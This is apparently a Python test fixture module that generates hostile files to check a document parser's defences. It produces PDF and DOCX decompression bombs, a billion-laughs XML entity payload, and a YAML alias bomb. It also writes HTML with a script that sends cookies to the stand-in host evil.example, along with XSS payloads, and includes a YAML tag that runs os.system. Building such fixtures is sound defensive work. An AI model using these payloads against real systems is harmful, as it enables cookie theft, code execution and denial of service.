"""Hostile and malformed files, generated in the tests (nothing dangerous is committed)."""

from __future__ import annotations

import io
import os
import zipfile
import zlib
from pathlib import Path

import docx


def flate_bomb_pdf(path: Path, megabytes: int = 400) -> None:
    """A small PDF whose one content stream inflates to ``megabytes`` of zeros."""
    payload = zlib.compress(b"0 " * (megabytes * 2**20 // 2), 9)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
        b"<< /Length " + str(len(payload)).encode() + b" /Filter /FlateDecode >>\nstream\n" + payload + b"\nendstream",
    ]
    _write_pdf(path, objects)


def text_pdf(path: Path, text: str) -> None:
    """A minimal valid PDF with one line of text (Helvetica)."""
    content = b"BT /F1 12 Tf 72 720 Td (" + text.encode("latin-1") + b") Tj ET"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length " + str(len(content)).encode() + b" >>\nstream\n" + content + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    _write_pdf(path, objects)


def _write_pdf(path: Path, objects: list[bytes]) -> None:
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(f"{number} 0 obj\n".encode() + body + b"\nendobj\n")
    xref = out.tell()
    out.write(f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode())
    for offset in offsets:
        out.write(f"{offset:010d} 00000 n \n".encode())
    out.write(f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode())
    path.write_bytes(out.getvalue())


def docx_zip_bomb(path: Path, megabytes: int = 600) -> None:
    """A DOCX whose document.xml inflates to ``megabytes`` (a valid package otherwise)."""
    buffer = io.BytesIO()
    docx.Document().save(buffer)
    buffer.seek(0)
    with zipfile.ZipFile(buffer) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "word/document.xml":
                filler = b"<!-- " + b"A" * (megabytes * 2**20) + b" -->"
                data = data.replace(b"<w:body>", b"<w:body>" + filler, 1)
            target.writestr(item, data, compress_type=zipfile.ZIP_DEFLATED, compresslevel=9)


def docx_billion_laughs(path: Path) -> None:
    buffer = io.BytesIO()
    docx.Document().save(buffer)
    buffer.seek(0)
    entities = '<!ENTITY a "lol">' + "".join(
        f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9)
    )
    with zipfile.ZipFile(buffer) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "word/document.xml":
                data = data.replace(b"?>", f"?><!DOCTYPE w:document [{entities}]>".encode(), 1)
                data = data.replace(b"<w:body>", b"<w:body><w:p><w:r><w:t>&j;</w:t></w:r></w:p>", 1)
            target.writestr(item, data)


def ole2_named_docx(path: Path) -> None:
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + os.urandom(4096))


def random_bytes(path: Path, size: int = 20_000) -> None:
    path.write_bytes(os.urandom(size))


def html_with_scripts(path: Path) -> None:
    path.write_text(
        "<html><body><script>document.location='http://evil.example/?c='+document.cookie</script>"
        "<p>Cluster cooperation across the border helps small companies find partners and new markets.</p>"
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>"
        "<img src=x onerror=alert(2)></body></html>"
    )


YAML_ALIAS_BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n" + "".join(
    f"{chr(99 + i)}: &{chr(99 + i)} [{', '.join(['*' + chr(98 + i)] * 9)}]\n" for i in range(6)
)
YAML_PYTHON_TAG = "title: !!python/object/apply:os.system ['touch /tmp/kb-pwned']\n"
